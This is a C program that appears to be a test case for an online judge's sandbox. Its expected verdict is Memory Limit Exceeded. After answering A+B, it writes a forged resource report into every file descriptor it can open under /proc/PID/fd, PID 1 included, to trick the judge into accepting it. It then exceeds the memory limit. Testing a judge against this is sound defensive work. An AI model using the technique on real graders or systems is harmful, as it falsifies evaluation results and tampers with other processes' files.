/* Memory Limit Exceeded: writes a fake launcher report (status 0, no CPU, 1 MiB) into every file it can open through /proc/PID/fd of other processes, then touches 40 MiB (the tests' limit is 32 MiB) and answers right */
/* Had a fake report reached the judge, it would believe 1 MiB was used and
   give Accepted instead. The input is read first, so nothing written into
   its own input pipe changes the answer. */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define CHUNK (1 << 20)
#define CHUNKS 40
#define MAX_PAIRS 1000

static void forge(long pid)
{
    static const char report[] = "0 0 0 1024\n";
    char path[64];
    int n, fd;

    if (pid <= 0 || pid == (long)getpid())
        return;
    for (n = 0; n < 64; n++) {
        snprintf(path, sizeof path, "/proc/%ld/fd/%d", pid, n);
        /* O_NONBLOCK: opening a pipe with no reader fails instead of waiting */
        fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
        if (fd >= 0) {
            if (write(fd, report, sizeof report - 1) < 0)
                perror(path);
            close(fd);
        }
    }
}

int main(void)
{
    static int sums[MAX_PAIRS];
    static char *kept[CHUNKS];
    DIR *proc;
    struct dirent *entry;
    int a, b, i, pairs = 0;

    while (pairs < MAX_PAIRS && scanf("%d %d", &a, &b) == 2)
        sums[pairs++] = a + b;
    signal(SIGPIPE, SIG_IGN);
    forge(1);
    forge((long)getppid());
    if ((proc = opendir("/proc")) != NULL) {
        while ((entry = readdir(proc)) != NULL)
            if (isdigit((unsigned char)entry->d_name[0]))
                forge(atol(entry->d_name));
        closedir(proc);
    }
    for (i = 0; i < CHUNKS; i++) {
        kept[i] = malloc(CHUNK);
        if (kept[i] == NULL)
            return 0;           /* not meant to happen: the answer is missing */
        memset(kept[i], i + 1, CHUNK);
    }
    for (i = 0; i < pairs; i++)
        printf("%d\n", sums[i] + kept[CHUNKS - 1][0] - CHUNKS);
    return 0;
}
